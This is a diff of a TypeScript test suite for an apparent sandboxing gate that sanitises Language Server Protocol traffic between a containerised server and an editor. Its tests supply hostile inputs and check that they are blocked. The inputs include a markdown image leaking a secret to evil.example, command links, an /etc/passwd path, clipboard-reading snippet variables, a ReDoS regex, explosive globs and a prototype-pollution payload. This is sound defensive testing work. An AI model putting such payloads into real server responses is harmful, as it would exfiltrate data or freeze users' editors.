@@ -65,7 +65,9 @@ describe('what a server is told', () => {
       rootPath: '/workspace',
       rootUri: inside,
       workspaceFolders: [{ uri: inside, name: 'app' }],
-      capabilities: { workspace: { applyEdit: true } },
+      capabilities: {
+        workspace: { applyEdit: true, workspaceEdit: { resourceOperations: [], snippetEditSupport: false } },
+      },
     });
   });
 
@@ -252,6 +254,88 @@ describe('what a server answers', () => {
     assert.throws(() => gateOf().answered('textDocument/hover', nested), ProtocolFailure);
   });
 
+  it('becomes no text by being a list of one', () => {
+    const image = ['![x](https://evil.example/?secret)'];
+    const { answered } = gateOf();
+    for (const contents of [[image], [[image]], { kind: 'markdown', value: image }]) {
+      const shown = JSON.stringify(answered('textDocument/hover', { contents }));
+      assert.ok(!shown.includes('evil'), shown);
+    }
+    const item = { label: 'x', documentation: { kind: 'markdown', value: image } };
+    assert.ok(!JSON.stringify(answered('textDocument/completion', [item])).includes('evil'));
+    const links = [
+      { range, target: ['command:cordon.panic'] },
+      { range, target: { path: 'x' } },
+    ];
+    assert.deepEqual(answered('textDocument/documentLink', links), []);
+    for (const uri of [['file:///home/me/x'], [[`${inside}/a`]], 7])
+      assert.equal(answered('textDocument/definition', { uri, range }), null);
+  });
+
+  it('of numbers is numbers, and as many as were sent', () => {
+    const { answered } = gateOf();
+    const method = 'textDocument/semanticTokens/full';
+    for (const data of [500_000_000, { length: 500_000_000 }, ['1'], [-1], [1.5], undefined])
+      assert.equal(answered(method, { data }), null);
+    assert.deepEqual(answered(method, { resultId: '1', data: [0, 1, 2, 3, 4] }), {
+      resultId: '1',
+      data: [0, 1, 2, 3, 4],
+    });
+    const delta = { edits: [{ start: 0, deleteCount: 5, data: [1] }] };
+    assert.deepEqual(answered(`${method}/delta`, delta), delta);
+    assert.equal(answered(`${method}/delta`, { edits: [{ start: 0, deleteCount: 1, data: 9 }] }), null);
+  });
+
+  it('that is a snippet has places to type in, and neither variables nor patterns', () => {
+    const insertText =
+      'a(${1:b}, ${CLIPBOARD}, $TM_FILEPATH, ${2|x,y|}, ${3/(.*)/$1/}, \\$HOME, \\\\$HOME)$0';
+    const safe =
+      'a(${1:b}, \\${CLIPBOARD}, \\$TM_FILEPATH, ${2|x,y|}, \\${3/(.*)/$1/}, \\$HOME, \\\\\\$HOME)$0';
+    const { answered } = gateOf();
+    const [own] = answered('textDocument/completion', [{ label: 'a', insertTextFormat: 2, insertText }]) as [
+      { insertText: string },
+    ];
+    assert.equal(own.insertText, safe);
+    const byDefault = answered('textDocument/completion', {
+      itemDefaults: { insertTextFormat: 2 },
+      items: [{ label: '$CLIPBOARD' }, { label: 'x', textEdit: { range, newText: insertText } }],
+    }) as { items: [{ insertText: string }, { textEdit: { newText: string } }] };
+    assert.equal(byDefault.items[0].insertText, '\\$CLIPBOARD');
+    assert.equal(byDefault.items[1].textEdit.newText, safe);
+    const plain = [{ label: 'x', insertText: '$HOME' }];
+    assert.deepEqual(answered('textDocument/completion', plain), plain, 'that of a shell stays');
+  });
+
+  it('has no pattern that the window would match', () => {
+    const shown = gateOf().answered('textDocument/linkedEditingRange', {
+      ranges: [range],
+      wordPattern: '(a+)+$',
+    });
+    assert.deepEqual(shown, { ranges: [range] });
+  });
+
+  it('about diagnostics is as short as what a server tells by itself, and about one document', () => {
+    const items = Array.from({ length: 5000 }, () => ({
+      range,
+      message: 'm'.repeat(20_000),
+      source: 's'.repeat(900),
+    }));
+    const { answered } = gateOf();
+    const report = answered('textDocument/diagnostic', {
+      kind: 'full',
+      items,
+      relatedDocuments: { x: {} },
+    }) as {
+      items: { message: string; source: string }[];
+    };
+    assert.equal(report.items.length, 1000);
+    assert.ok(
+      report.items.every(({ message, source }) => message.length === 10_000 && source.length === 200),
+    );
+    assert.ok(!('relatedDocuments' in report));
+    assert.equal(answered('workspace/diagnostic', { items: [] }), null);
+  });
+
   it('changes no prototype', () => {
     const result = JSON.parse('{"contents":"x","__proto__":{"polluted":true}}') as unknown;
     const shown = gateOf().answered('textDocument/hover', result) as object;
@@ -264,10 +348,16 @@ describe('an edit of a server', () => {
   const editOf = (uri: string) => [
     { changes: { [uri]: [{ range, newText: 'x' }] } },
     { documentChanges: [{ textDocument: { uri, version: null }, edits: [{ range, newText: 'x' }] }] },
-    { documentChanges: [{ kind: 'create', uri, options: { overwrite: true } }] },
-    { documentChanges: [{ kind: 'delete', uri }] },
-    { documentChanges: [{ kind: 'rename', oldUri: uri, newUri: `${inside}/b` }] },
-    { documentChanges: [{ kind: 'rename', oldUri: `${inside}/b`, newUri: uri }] },
+  ];
+  /** What the window would do later, through what the container has put in its way by then. */
+  const operations = [
+    { kind: 'create', uri: `${inside}/a`, options: { overwrite: true } },
+    { kind: 'delete', uri: `${inside}/a` },
+    { kind: 'rename', oldUri: `${inside}/a`, newUri: `${inside}/b`, options: { overwrite: true } },
+    {
+      textDocument: { uri: `${inside}/a`, version: null },
+      edits: [{ range, snippet: { value: '$TM_FILEPATH' } }],
+    },
   ];
   const forbidden = [
     'file:///etc/passwd',
@@ -307,6 +397,18 @@ describe('an edit of a server', () => {
       }
     });
 
+  for (const operation of operations)
+    it(`of files is none: ${JSON.stringify(operation).slice(0, 60)}`, () => {
+      const { answered, asks } = gateOf();
+      const edit = { documentChanges: [operation] };
+      assert.equal(answered('textDocument/rename', edit), null);
+      assert.deepEqual(answered('textDocument/codeAction', [{ title: 'Fix', edit }]), []);
+      assert.equal(
+        (asks('workspace/applyEdit', { edit }).back?.result as { applied: boolean }).applied,
+        false,
+      );
+    });
+
   it('is refused as a whole where one place of several must not be changed', () => {
     const edit = { changes: { [`${inside}/a`]: [], [`${inside}/closed/b`]: [] } };
     assert.equal(gateOf().answered('textDocument/rename', edit), null);
@@ -326,6 +428,13 @@ describe('an edit of a server', () => {
     const edit = { changes: { [`${inside}/a`]: [] } };
     assert.equal((asks('workspace/applyEdit', { edit }).back?.result as { applied: boolean }).applied, false);
     assert.ok(answered('textDocument/rename', edit), 'what the person asks for is theirs');
+    for (const method of [
+      'workspace/willRenameFiles',
+      'workspace/willCreateFiles',
+      'workspace/willDeleteFiles',
+    ])
+      assert.equal(answered(method, edit), null, method);
+    assert.equal(answered('textDocument/willSaveWaitUntil', [{ range, newText: 'x' }]), null);
   });
 });
 
@@ -388,6 +497,35 @@ describe('a command of a server', () => {
       started().answered('textDocument/completion', [{ label: 'x', command: { ...shown, arguments: [1] } }]),
       [{ label: 'x', command: shown }],
     );
+  });
+
+  it('stays in what holds it, and comes back to the server under its own name', () => {
+    const { answered, sends } = started();
+    const own = { title: 'Fix', command: 'fix', arguments: [`${inside}/a`] };
+    const shown = { title: 'Fix', command: 'cordon.7.fix', arguments: [`${host}/a`] };
+    assert.deepEqual(answered('textDocument/codeLens', [{ range, command: own }]), [
+      { range, command: shown },
+    ]);
+    assert.deepEqual(answered('textDocument/codeAction', [{ title: 'a', command: own }]), [
+      { title: 'a', command: shown },
+    ]);
+    assert.deepEqual(answered('completionItem/resolve', { label: 'x', command: own }), {
+      label: 'x',
+      command: shown,
+    });
+    const { onward } = sends('codeAction/resolve', { title: 'a', command: shown });
+    assert.deepEqual(onward?.params, { title: 'a', command: own });
+  });
+
+  it('stands in no capability, where the window would run it', () => {
+    const documentation = [{ kind: 'quickfix', command: { title: 'More', command: 'cordon.panic' } }];
+    const { answered, asks } = gateOf();
+    const options = { codeActionKinds: ['quickfix'], documentation };
+    const result = answered('initialize', { capabilities: { codeActionProvider: options } });
+    assert.deepEqual(result, { capabilities: { codeActionProvider: { codeActionKinds: ['quickfix'] } } });
+    const registrations = [{ id: '1', method: 'textDocument/codeAction', registerOptions: options }];
+    const { onward } = asks('client/registerCapability', { registrations });
+    assert.ok(!JSON.stringify(onward).includes('cordon.panic'));
   });
 
   it('that the server does not have is not asked of it', () => {
@@ -462,6 +600,44 @@ describe('what a server registers', () => {
     assert.equal((params(onward)['registrations'] as unknown[]).length, 200);
   });
 
+  it('is said once under a name, and taken back as what it was', () => {
+    const { asks } = gateOf();
+    const hover = { id: 'x', method: 'textDocument/hover', registerOptions: {} };
+    const { onward } = asks('client/registerCapability', { registrations: [hover, hover, hover] });
+    assert.equal((params(onward)['registrations'] as unknown[]).length, 1);
+    const unregisterations = [{ id: 'x', method: 'textDocument/definition' }, { id: 'y' }];
+    assert.deepEqual(params(asks('client/unregisterCapability', { unregisterations }).onward), {
+      unregisterations: [{ id: 'x', method: 'textDocument/hover' }],
+    });
+  });
+
+  it('is matched in a moment, whatever a file is called', () => {
+    const wild = '**/*a*a*a*a*a*a*a*b';
+    const { asks, answered } = gateOf();
+    const registrations = [
+      {
+        id: '1',
+        method: 'workspace/didChangeWatchedFiles',
+        registerOptions: { watchers: [{ globPattern: wild }, { globPattern: '**/*.{ts,tsx,js}' }] },
+      },
+    ];
+    const { onward } = asks('client/registerCapability', { registrations });
+    assert.ok(!JSON.stringify(onward).includes('a*a') && JSON.stringify(onward).includes('*.{ts,tsx,js}'));
+    const filters = ['**/*.ts', wild, '{*a*a*a,*{b}*}'].map((glob) => ({
+      pattern: { glob, matches: 'file' },
+    }));
+    const capabilities = { workspace: { fileOperations: { didRename: { filters } } } };
+    assert.deepEqual(answered('initialize', { capabilities }), {
+      capabilities: {
+        workspace: {
+          fileOperations: {
+            didRename: { filters: [{ scheme: 'file', pattern: { glob: '**/*.ts', matches: 'file' } }] },
+          },
+        },
+      },
+    });
+  });
+
   it('cannot be said at the start either', () => {
     const result = gateOf().answered('initialize', {
       capabilities: {
@@ -475,14 +651,51 @@ describe('what a server registers', () => {
     assert.deepEqual(result, {
       capabilities: {
         hoverProvider: true,
-        diagnosticProvider: { documentSelector: null, interFileDependencies: true },
+        diagnosticProvider: { interFileDependencies: true },
         workspace: { fileOperations: {} },
       },
     });
   });
 });
 
+describe('what a server learns of the window', () => {
+  it('is not what went wrong there, which names places of this machine', () => {
+    const { gate, asks } = gateOf();
+    const { onward } = asks('workspace/applyEdit', { edit: { changes: { [`${inside}/a`]: [] } } });
+    const error = { code: -32603, message: `failed: "${host}/a"` };
+    const told = gate.fromClient({ jsonrpc: '2.0', id: onward?.id ?? '', error });
+    assert.deepEqual(told.onward?.error, { code: -32803, message: 'The window could not do this.' });
+  });
+
+  it('has the addresses of the container in arguments, also of its own files', () => {
+    const all = gateOf();
+    all.answered('initialize', { capabilities: { executeCommandProvider: { commands: ['fix'] } } });
+    const { onward } = all.gate.fromClient({
+      ...{ jsonrpc: '2.0', id: 70, method: 'workspace/executeCommand' },
+      params: { command: 'cordon.7.fix', arguments: ['cordon-container://w1/usr/lib/x', `${host}/a`] },
+    });
+    assert.deepEqual(params(onward)['arguments'], ['file:///usr/lib/x', `${inside}/a`]);
+  });
+});
+
 describe('what a server says by itself', () => {
+  it('fills the window with neither progress nor documents', () => {
+    const { asks, tells } = gateOf();
+    const begun = Array.from({ length: 40 }, (_, token) => asks('window/workDoneProgress/create', { token }));
+    assert.equal(begun.filter(({ onward }) => onward).length, 20);
+    tells('$/progress', { token: 0, value: { kind: 'end' } });
+    assert.ok(asks('window/workDoneProgress/create', { token: 99 }).onward);
+    const told = (at: number, count: number) =>
+      tells('textDocument/publishDiagnostics', {
+        uri: `${inside}/${at}.ts`,
+        diagnostics: Array.from({ length: count }, () => ({ range, message: 'x' })),
+      }).onward;
+    const shown = Array.from({ length: 2500 }, (_, at) => told(at, 1)).filter(Boolean);
+    assert.equal(shown.length, 2000);
+    assert.ok(told(0, 0), 'what is over is taken away');
+    assert.ok(told(2400, 1));
+  });
+
   it('of diagnostics is about documents of the folder, and not more than can be read', () => {
     const { tells } = gateOf();
     const diagnostics = Array.from({ length: 5000 }, () => ({
